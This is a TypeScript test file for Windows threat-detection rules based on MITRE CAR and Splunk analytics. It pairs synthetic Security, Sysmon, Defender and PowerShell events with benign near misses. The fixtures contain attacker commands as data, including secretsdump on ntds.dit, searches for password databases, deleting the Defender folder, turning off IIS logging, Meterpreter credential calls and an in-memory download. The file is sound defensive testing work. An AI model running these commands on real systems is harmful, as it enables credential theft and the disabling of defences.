// Built-in rules written from two public analytics catalogues (MITRE CAR and Splunk's endpoint detections over the
// built-in Windows channels and PowerShell script block logging), read as lists of attack shapes: each rule fires on the event it is written for, as Windows
// or Sysmon writes it, with its level and tactic, and a benign near miss of the same event id does not.
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { builtinHits, describeCatalogue, S32, SUBJ, windowsEvent, type CatalogueCase, type Ev } from './builtin.fixture.js';

// This file's own clock (ten seconds an event) and, below, Sysmon events with UtcTime, ProcessGuid and ProcessId.
let t = 0;
function win(channel: string, provider: string, eventId: number, data: JsonRecord, host = 'SRV01'): Ev {
  t += 10;
  return windowsEvent(t, channel, provider, eventId, data, host);
}
const sec = (eventId: number, data: JsonRecord): Ev => win('Security', 'Microsoft-Windows-Security-Auditing', eventId, data);
const scm = (eventId: number, data: JsonRecord, host = 'SRV01'): Ev => win('System', 'Service Control Manager', eventId, data, host);
const app = (provider: string, eventId: number, data: JsonRecord): Ev => win('Application', provider, eventId, data);
const DEF = 'Microsoft-Windows-Windows Defender/Operational';
const def = (eventId: number, data: JsonRecord): Ev => win(DEF, 'Microsoft-Windows-Windows Defender', eventId, { 'Product Name': 'Microsoft Defender Antivirus', User: 'CORP\\alice', ...data });
const sysmon = (eventId: number, data: JsonRecord): Ev =>
  win('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', eventId, { UtcTime: '2026-12-01 06:00:00.000', ProcessGuid: '{1}', ProcessId: '4412', User: 'CORP\\bob', ...data }, 'WS01');
const proc = (image: string, cmd: string, parent = `${S32}cmd.exe`): Ev =>
  sysmon(1, { Image: image, OriginalFileName: image.split('\\').pop() ?? '', CommandLine: cmd, CurrentDirectory: 'C:\\Users\\bob\\', IntegrityLevel: 'High', ParentImage: parent, ParentCommandLine: parent });
const handle = (object: string, processName: string, type = 'File', mask = '0x1'): Ev =>
  sec(4663, { ...SUBJ, ObjectServer: 'Security', ObjectType: type, ObjectName: object, HandleId: '0x1a4', AccessList: mask === '0x2' ? '%%4417' : '%%4416', AccessMask: mask, ProcessId: '0x1ee0', ProcessName: processName });
const ds = (id: number, dn: string, cls: string, extra: JsonRecord = {}): Ev =>
  sec(id, { OpCorrelationID: '{7}', AppCorrelationID: '-', ...SUBJ, DSName: 'corp.example', DSType: '%%14676', ObjectDN: dn, ObjectGUID: '{8}', ObjectClass: cls, ...extra });
const tgt = (user: string, status: string, ip = '::ffff:10.0.0.66'): Ev =>
  sec(4768, { TargetUserName: user, TargetDomainName: 'CORP', ServiceName: 'krbtgt', TicketOptions: '0x40810010', Status: status, TicketEncryptionType: '0xffffffff', PreAuthType: '-', IpAddress: ip, IpPort: '50000' });
const tgs = (service: string, type: string): Ev =>
  sec(4769, { TargetUserName: 'alice@CORP.EXAMPLE', TargetDomainName: 'CORP.EXAMPLE', ServiceName: service, ServiceSid: 'S-1-5-21-1-2-3-2050', TicketOptions: '0x40810000', TicketEncryptionType: type, IpAddress: '::ffff:10.0.0.30', IpPort: '50123', Status: '0x0' });
const startType = (name: string, key: string, to: string, host = 'SRV01'): Ev => scm(7040, { param1: name, param2: 'auto start', param3: to, param4: key }, host);
const hits = builtinHits;

/** [rule title, level, a tactic it carries, the events it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Kerberos Service Ticket With RC4 Encryption For A Computer Account', 'low', 'credential-access',
    [tgs('SRV02$', '0x17')], [tgs('SRV02$', '0x12')]],
  ['SID History Written To An Account In The Directory', 'high', 'privilege-escalation',
    [ds(5136, 'CN=mallory,CN=Users,DC=corp,DC=example', 'user', { AttributeLDAPDisplayName: 'sIDHistory', AttributeValue: 'S-1-5-21-1-2-3-500', OperationType: '%%14674' })],
    [ds(5136, 'CN=mallory,CN=Users,DC=corp,DC=example', 'user', { AttributeLDAPDisplayName: 'description', AttributeValue: 'x', OperationType: '%%14674' })]],
  ['Computer Account Created By Another Computer Account', 'medium', 'persistence',
    [sec(4741, { SubjectUserSid: 'S-1-5-21-1-2-3-1109', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3a1f2', TargetUserName: 'KRBRELAY$', TargetDomainName: 'CORP', SamAccountName: 'KRBRELAY$' })],
    [sec(4741, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'DC01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', TargetUserName: 'WS77$', TargetDomainName: 'CORP', SamAccountName: 'WS77$' })]],
  ['Kerberos TGTs Refused For Many Disabled Or Locked Accounts From One Address', 'medium', 'credential-access',
    Array.from({ length: 6 }, (_, i) => tgt(`user${i}`, '0x12')), Array.from({ length: 4 }, (_, i) => tgt(`user${i}`, '0x12'))],
  ['Group Policy Object Created In The Directory', 'low', 'privilege-escalation',
    [ds(5137, 'CN={D1A2B3C4-1111-2222-3333-444455556666},CN=Policies,CN=System,DC=corp,DC=example', 'groupPolicyContainer')],
    [ds(5137, 'OU=Sales,DC=corp,DC=example', 'organizationalUnit')]],
  ['Browser Extension Or Chat Application Token Store Read By Another Program', 'medium', 'credential-access',
    [handle('C:\\Users\\alice\\AppData\\Roaming\\discord\\Local Storage\\leveldb\\000005.ldb', 'C:\\Users\\alice\\AppData\\Local\\Temp\\st.exe')],
    [handle('C:\\Users\\alice\\AppData\\Roaming\\discord\\Local Storage\\leveldb\\000005.ldb', 'C:\\Users\\alice\\AppData\\Local\\Discord\\app-1.0.9010\\Discord.exe')]],
  ['Outlook Profile Account Settings Read By Another Program', 'medium', 'credential-access',
    [handle('\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Microsoft\\Office\\16.0\\Outlook\\Profiles\\Outlook\\9375CFF0413111d3B88A00104B2A6676\\00000002', 'C:\\Users\\alice\\AppData\\Local\\Temp\\st.exe', 'Key')],
    [handle('\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Microsoft\\Office\\16.0\\Outlook\\Profiles\\Outlook\\9375CFF0413111d3B88A00104B2A6676\\00000002', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'Key')]],
  ['Web Script Written To The ScreenConnect Extensions Folder', 'high', 'initial-access',
    [handle('C:\\Program Files (x86)\\ScreenConnect\\App_Extensions\\..\\shell.aspx', 'C:\\Program Files (x86)\\ScreenConnect\\ScreenConnect.Service.exe', 'File', '0x2')],
    [handle('C:\\Program Files (x86)\\ScreenConnect\\App_Extensions\\ext\\page.aspx', 'C:\\Program Files (x86)\\ScreenConnect\\ScreenConnect.Service.exe', 'File', '0x1')]],
  ['Windows Update Service Set To Disabled', 'medium', 'defense-impairment',
    [startType('Windows Update Medic Service', 'WaaSMedicSvc', 'disabled')], [startType('Windows Update', 'wuauserv', 'demand start')]],
  ['Many Different Services Set To Disabled On One Host', 'medium', 'impact',
    Array.from({ length: 6 }, (_, i) => startType(`Service ${i}`, `svc${i}`, 'disabled')), Array.from({ length: 4 }, (_, i) => startType(`Service ${i}`, `svc${i}`, 'disabled'))],
  ['Silent Process Exit Monitor Launched A Program', 'medium', 'persistence',
    [app('Microsoft-Windows-ProcessExitMonitor', 3000, { Data: ['notepad.exe', '0', 'C:\\Users\\Public\\evil.exe'] })], [app('Microsoft-Windows-ProcessExitMonitor', 3001, { Data: ['notepad.exe', '0'] })]],
  ['IIS Worker Process Failed To Load A Module', 'low', 'persistence',
    [app('Microsoft-Windows-IIS-W3SVC-WP', 2282, { Data: ['C:\\Windows\\System32\\inetsrv\\evil.dll', '8007007E'] })], [app('Microsoft-Windows-IIS-W3SVC-WP', 2295, { Data: ['x'] })]],
  ['Microsoft Defender Attack Surface Reduction Rule Blocked An Action', 'medium', 'execution',
    [def(1121, { ID: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a', Path: 'C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe', 'Process Name': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' })], [def(5000, {})]],
  ['Microsoft Defender Attack Surface Reduction Rule Audited An Action', 'low', 'execution',
    [def(1122, { ID: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a', Path: 'C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe' })], [def(1123, { Path: 'C:\\Users\\alice\\Documents\\a.docx' })]],
  ['Microsoft Defender Blocked Or Audited Credential Theft From LSASS', 'medium', 'credential-access',
    [def(1122, { ID: '9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2', Path: `${S32}lsass.exe`, 'Process Name': 'C:\\Users\\alice\\AppData\\Local\\Temp\\m.exe' })],
    [def(1121, { ID: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a' }),
      // reported by SigmaHQ's "LSASS Access Detected via Attack Surface Reduction"
      def(1121, { ID: '9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2', Path: `${S32}lsass.exe`, 'Process Name': 'C:\\Users\\alice\\AppData\\Local\\Temp\\m.exe' })]],
  ['Microsoft Defender Blocked Or Audited Credential Theft From LSASS', 'medium', 'credential-access',
    [def(1121, { ID: '9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2', Path: `${S32}lsass.exe`, 'Process Name': 'C:\\Program Files\\Agent\\agent.exe' })], [def(1121, { ID: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a' })]],
  ['Microsoft Defender Blocked Or Audited A Process Created By PsExec Or WMI', 'medium', 'execution',
    [def(1122, { ID: 'd1e49aac-8f56-4280-b9ba-993a6d77406c', Path: `${S32}cmd.exe`, 'Process Name': `${S32}wbem\\WmiPrvSE.exe` })], [def(1122, { ID: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a' })]],
  ['Microsoft Defender Blocked Or Audited Persistence Through A WMI Event Subscription', 'medium', 'persistence',
    [def(1121, { ID: 'e6db77e5-3df2-4cf1-b95a-636979351e5b' })], [def(1121, { ID: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a' })]],
  ['Microsoft Defender Blocked Or Audited A Potentially Obfuscated Script', 'medium', 'stealth',
    [def(1121, { ID: '5beb7efe-fd9a-4556-801d-275e5ffc04cc', Path: 'C:\\Users\\alice\\Downloads\\a.js' })], [def(1121, { ID: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a' })]],
  ['Microsoft Defender Network Protection Blocked A Connection', 'low', 'command-and-control',
    [def(1126, { Path: 'badsite.example', 'Process Name': 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' })], [def(5000, {})]],
  ['Shell Started Directly By Winlogon', 'high', 'persistence',
    [proc(`${S32}cmd.exe`, 'cmd.exe', `${S32}winlogon.exe`)], [proc(`${S32}userinit.exe`, `${S32}userinit.exe`, `${S32}winlogon.exe`)]],
  ['Program Or Script In An Alternate Data Stream Named On A Command Line', 'medium', 'stealth',
    [proc(`${S32}wbem\\WMIC.exe`, 'wmic process call create "C:\\Users\\Public\\file.txt:evil.exe"')],
    [proc(`${S32}curl.exe`, 'curl.exe https://example.com:8443/setup.ps1 -o C:\\Users\\bob\\setup.ps1'), proc(`${S32}notepad.exe`, 'notepad.exe C:\\Users\\bob\\Downloads\\a.zip:Zone.Identifier')]],
  ['Program Started By A .NET Registration Or Installer Host', 'medium', 'stealth',
    [proc(`${S32}cmd.exe`, 'cmd.exe /c whoami', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe')],
    [proc(`${S32}conhost.exe`, 'conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe')]],
  ['Directory Objects Listed Through The WMI LDAP Provider On A Command Line', 'low', 'discovery',
    [proc(`${S32}wbem\\WMIC.exe`, 'wmic /NAMESPACE:\\\\root\\directory\\ldap PATH ds_user GET ds_samaccountname')],
    [proc(`${S32}wbem\\WMIC.exe`, 'wmic /namespace:\\\\root\\cimv2 path Win32_UserAccount get name')]],
  ['Windows Program Started Without Arguments By Rundll32 Or Regsvr32', 'medium', 'stealth',
    [proc(`${S32}notepad.exe`, 'C:\\Windows\\system32\\notepad.exe', `${S32}rundll32.exe`)],
    [proc(`${S32}notepad.exe`, 'notepad.exe C:\\Users\\bob\\readme.txt', `${S32}rundll32.exe`), proc(`${S32}notepad.exe`, 'C:\\Windows\\system32\\notepad.exe', 'C:\\Windows\\explorer.exe')]],
  ['Program Started By The WMI Script Event Consumer Host', 'high', 'persistence',
    [proc(`${S32}cmd.exe`, 'cmd.exe /c C:\\Users\\Public\\u.exe', `${S32}wbem\\scrcons.exe`)],
    [proc(`${S32}wbem\\scrcons.exe`, 'C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding', `${S32}svchost.exe`)]],
  ['Impacket Secretsdump Named On A Command Line', 'high', 'credential-access',
    [proc('C:\\Python311\\python.exe', 'python.exe secretsdump.py -ntds ntds.dit -system SYSTEM LOCAL')],
    [proc('C:\\Python311\\python.exe', 'python.exe -m pip install impacket')]],
  ['Microsoft Workflow Compiler Run', 'medium', 'stealth',
    [proc('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Microsoft.Workflow.Compiler.exe', 'Microsoft.Workflow.Compiler.exe C:\\Users\\Public\\a.xml C:\\Users\\Public\\r.txt')],
    [proc('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', 'csc.exe /out:a.exe a.cs')]],
  ['Program Run Directly From An Opened Archive', 'informational', 'execution',
    [proc('C:\\Users\\bob\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.exe', '"C:\\Users\\bob\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.exe"', 'C:\\Windows\\explorer.exe')],
    [proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" "C:\\Users\\bob\\AppData\\Local\\Temp\\Temp1_docs.zip\\a.docx"', 'C:\\Windows\\explorer.exe')]],
  ['Shell Or Script Host Started By The iSCSI Control Panel', 'high', 'privilege-escalation',
    [proc(`${S32}cmd.exe`, 'cmd.exe', 'C:\\Windows\\SysWOW64\\iscsicpl.exe')],
    [proc('C:\\Windows\\SysWOW64\\iscsicpl.exe', 'iscsicpl.exe', 'C:\\Windows\\explorer.exe')]],
  ['RDP Wrapper Installer Run', 'medium', 'lateral-movement',
    [proc('C:\\Users\\Public\\RDPWInst.exe', 'RDPWInst.exe -i -s')],
    [proc(`${S32}mstsc.exe`, 'mstsc.exe /v:srv02')]],
  ['Assembly Installed In The Global Assembly Cache With Gacutil', 'low', 'persistence',
    [proc('C:\\Program Files (x86)\\Microsoft SDKs\\Windows\\v10.0A\\bin\\NETFX 4.8 Tools\\gacutil.exe', 'gacutil.exe -i C:\\Users\\Public\\mod.dll')],
    [proc('C:\\Program Files (x86)\\Microsoft SDKs\\Windows\\v10.0A\\bin\\NETFX 4.8 Tools\\gacutil.exe', 'gacutil.exe -l System.Web')]],
  ['Certificate Authority Database Or Key Backed Up With Certutil', 'medium', 'credential-access',
    [proc(`${S32}certutil.exe`, 'certutil -backupdb C:\\Users\\Public\\cabackup')], [proc(`${S32}certutil.exe`, 'certutil -hashfile C:\\Users\\bob\\a.iso SHA256')]],
  ['Desktop Wallpaper Replaced From A Command Line', 'low', 'impact',
    [proc(`${S32}cmd.exe`, 'cmd.exe /c copy /y C:\\Users\\Public\\ransom.bmp "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Themes\\TranscodedWallpaper"'),
      proc(`${S32}reg.exe`, 'reg add "HKCU\\Control Panel\\Desktop" /v Wallpaper /t REG_SZ /d C:\\Users\\Public\\ransom.bmp /f')],
    [proc(`${S32}reg.exe`, 'reg query "HKCU\\Control Panel\\Desktop" /v ScreenSaveTimeOut')]],
  ['Password Manager Databases Searched For On A Command Line', 'medium', 'credential-access',
    [proc(`${S32}cmd.exe`, 'cmd.exe /c dir /s /b C:\\Users\\*.kdbx')],
    [proc('C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe', '"C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe" "C:\\Users\\bob\\Documents\\db.kdbx"', 'C:\\Windows\\explorer.exe')]],
  ['Batch File Written To The System Folder By A Non-Servicing Program', 'low', 'stealth',
    [sysmon(11, { Image: 'C:\\Users\\Public\\u.exe', TargetFilename: `${S32}update.bat` })],
    [sysmon(11, { Image: 'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack\\TiWorker.exe', TargetFilename: `${S32}update.cmd` }),
      sysmon(11, { Image: 'C:\\Program Files\\Vendor\\setup.exe', TargetFilename: `${S32}Vendor\\run.bat` })]],
];

const PS = 'Microsoft-Windows-PowerShell/Operational';
const script = (text: string): Ev => win(PS, 'Microsoft-Windows-PowerShell', 4104, { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: '{6a1b2c3d-0000-4000-8000-000000000001}', Path: '' }, 'WS01');
const module = (text: string): Ev =>
  win(PS, 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe\r\nCommand Name = Invoke-Expression\r\n', Payload: `CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="${text}"` }, 'WS01');
const classic = (text: string): Ev => win('Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"'] } }, 'WS01');

/** PowerShell families, read in all three logs: [title without the log suffix, level, a tactic, the text, a near miss]. */
const psCases: [string, string, string, string, string][] = [
  ['Inbound Allow Firewall Rule Added From PowerShell', 'low', 'defense-impairment',
    'New-NetFirewallRule -DisplayName "RDP in" -Direction Inbound -LocalPort 3389 -Protocol TCP -Action Allow', 'New-NetFirewallRule -DisplayName "block out" -Direction Outbound -RemoteAddress 203.0.113.7 -Action Block'],
  ['Certificate Template Abuse Tool Commands In PowerShell', 'medium', 'credential-access',
    'Invoke-Certify find /vulnerable /currentuser', 'Get-ChildItem Cert:\\LocalMachine\\My | Where-Object { $_.NotAfter -lt (Get-Date) }'],
  ['Domain Password Policy, OU Or Group Policy Enumerated With PowerView Functions', 'low', 'discovery',
    'Get-DomainPolicy -Policy Domain | Select-Object -ExpandProperty SystemAccess', 'Get-ADUser -Identity alice -Properties PasswordLastSet'],
  ['Directory Objects Listed Through The WMI LDAP Provider', 'low', 'discovery',
    'Get-WmiObject -Namespace root\\directory\\ldap -Class ds_computer | Select-Object ds_cn', 'Get-WmiObject -Class Win32_ComputerSystem'],
  ['Kerberos Pre-Authentication Turned Off For An Account From PowerShell', 'medium', 'credential-access',
    'Set-ADAccountControl -Identity svc_legacy -DoesNotRequirePreAuth:$true', 'Set-ADAccountControl -Identity svc_legacy -DoesNotRequirePreAuth:$false'],
  ['Mailbox Search Or Mail Password Spraying Functions In PowerShell', 'high', 'collection',
    'Invoke-GlobalMailSearch -ImpersonationAccount admin -ExchHostname mail.corp.example -OutputCsv out.csv', 'Get-Mailbox -Identity alice | Get-MailboxStatistics'],
  ['Windows API Functions Resolved By Address In PowerShell', 'medium', 'stealth',
    '$p = $k32.GetProcAddress($h, "VirtualAlloc"); $f = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p, $t)', '$addr = Resolve-DnsName example.com; "GetProcAddress is documented in MSDN"'],
  ['Meterpreter PowerShell Extension Bindings Used', 'high', 'execution',
    '[MSF.Powershell.Meterpreter.Kiwi]::CredsAll()', 'Import-Module Microsoft.PowerShell.Management'],
  ['Microsoft Defender Folder Deleted From A Script', 'high', 'defense-impairment',
    'cmd /c rmdir /s /q "C:\\ProgramData\\Microsoft\\Windows Defender"', 'Get-ChildItem "C:\\ProgramData\\Microsoft\\Windows Defender\\Support"'],
  ['Download Unpacked In Memory From PowerShell', 'medium', 'command-and-control',
    '$d = (New-Object System.Net.WebClient).DownloadData("http://10.0.0.9/a.gz"); $ms = New-Object IO.MemoryStream(,$d); $gz = New-Object IO.Compression.GzipStream($ms, [IO.Compression.CompressionMode]::Decompress)',
    '$d = (New-Object System.Net.WebClient).DownloadFile("https://example.com/a.zip", "C:\\Temp\\a.zip")'],
  ['ESX Admins Group Created From PowerShell', 'medium', 'persistence',
    'New-ADGroup -Name "ESX Admins" -GroupScope Global -GroupCategory Security', 'New-ADGroup -Name "Finance Readers" -GroupScope Global'],
  ['Assembly Installed In The Global Assembly Cache From PowerShell', 'medium', 'persistence',
    '$p = New-Object System.EnterpriseServices.Internal.Publish; $p.GacInstall("C:\\Users\\Public\\mod.dll")', '[System.Reflection.Assembly]::LoadWithPartialName("System.Web")'],
  ['IIS HTTP Logging Turned Off From PowerShell', 'high', 'defense-impairment',
    'Set-WebConfigurationProperty -PSPath "IIS:\\" -Filter system.webServer/httpLogging -Name dontLog -Value true', 'Get-WebConfigurationProperty -PSPath "IIS:\\" -Filter system.webServer/httpLogging -Name selectiveLogging'],
  ['IIS Native Module Registered From PowerShell', 'medium', 'persistence',
    'New-WebGlobalModule -Name Mod -Image C:\\Windows\\System32\\inetsrv\\mod.dll', 'Get-WebGlobalModule | Select-Object Name'],
  ['AppLocker Policy Replaced From PowerShell', 'low', 'defense-impairment',
    'Import-Module AppLocker; Set-AppLockerPolicy -XmlPolicy C:\\Users\\Public\\allow-all.xml', 'Get-AppLockerPolicy -Effective -Xml'],
  ['Scheduled Job Created Through WMI Win32_ScheduledJob', 'medium', 'persistence',
    '([wmiclass]"\\\\SRV02\\root\\cimv2:Win32_ScheduledJob").Create("cmd /c C:\\Users\\Public\\u.exe", "********100000.000000-420", $false, 0, 0, $true)', 'Get-ScheduledTask -TaskName upd'],
  ['Accounts With Service Principal Names Listed From PowerShell', 'low', 'credential-access',
    'Get-DomainUser -SPN -Properties samaccountname,serviceprincipalname', 'Get-DomainUser -Identity alice -Properties samaccountname'],
];

describeCatalogue('built-in rules from the analytics catalogues (MITRE CAR, Splunk endpoint detections)', cases);

describe('built-in rules from the analytics catalogues: PowerShell families and counts', () => {
  for (const [title, level, tactic, text, nearMiss] of psCases) {
    it(`${title}: fires in 4104, 4103 and 800 (${level}, ${tactic}); its near miss does not`, () => {
      for (const [log, make] of [['script block 4104', script], ['module logging 4103', module], ['classic pipeline 800', classic]] as const) {
        const h = hits([make(text)]).get(`${title} (${log})`);
        expect(h?.level).toBe(level);
        expect(h?.tactics).toContain(tactic);
        expect(hits([make(nearMiss)]).has(`${title} (${log})`)).toBe(false);
      }
    });
  }

  it('the per-event bases of the counts: a 4768 0x12 refusal is informational; a single service set to disabled is not reported', () => {
    expect(hits([tgt('bob', '0x12')]).get('Kerberos TGT Refused For A Disabled, Locked Or Expired Account (4768 0x12)')?.level).toBe('informational');
    expect(hits([tgt('bob', '0x6')]).has('Kerberos TGT Refused For A Disabled, Locked Or Expired Account (4768 0x12)')).toBe(false);
    expect(hits([startType('Spooler', 'Spooler', 'disabled')]).has('Service Set To Disabled (base of the disabled-services burst)')).toBe(false);
  });

  it('the disabled-services burst counts per host: six hosts disabling one service each is not a burst', () => {
    const spread = Array.from({ length: 6 }, (_, i) => startType(`Service ${i}`, `svc${i}`, 'disabled', `SRV${i}`));
    expect(hits(spread).has('Many Different Services Set To Disabled On One Host')).toBe(false);
  });

  it('an ASR rule with a built-in rule of its own is reported once, with its own technique, not also by the generic rules', () => {
    const specific = [
      ['9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2', 'Microsoft Defender Blocked Or Audited Credential Theft From LSASS', 'credential-access'],
      ['5beb7efe-fd9a-4556-801d-275e5ffc04cc', 'Microsoft Defender Blocked Or Audited A Potentially Obfuscated Script', 'stealth'],
      ['d1e49aac-8f56-4280-b9ba-993a6d77406c', 'Microsoft Defender Blocked Or Audited A Process Created By PsExec Or WMI', 'execution'],
      ['e6db77e5-3df2-4cf1-b95a-636979351e5b', 'Microsoft Defender Blocked Or Audited Persistence Through A WMI Event Subscription', 'persistence'],
    ] as const;
    for (const [id, title, tactic] of specific) {
      for (const eventId of [1121, 1122]) {
        // A program SigmaHQ's LSASS ASR rule leaves to this one (it reports the other blocks of LSASS).
        const h = hits([def(eventId, { ID: id, Path: `${S32}lsass.exe`, 'Process Name': 'C:\\Program Files\\Agent\\agent.exe' })]);
        expect(h.get(title)?.tactics, `${title} ${eventId}`).toContain(tactic);
        expect(h.has('Microsoft Defender Attack Surface Reduction Rule Blocked An Action'), `${title} ${eventId}`).toBe(false);
        expect(h.has('Microsoft Defender Attack Surface Reduction Rule Audited An Action'), `${title} ${eventId}`).toBe(false);
      }
    }
    expect(hits([def(1122, { ID: 'D4F940AB-401B-4EFC-AADC-AD5F3C50688A' })]).has('Microsoft Defender Attack Surface Reduction Rule Audited An Action')).toBe(true);
  });
});
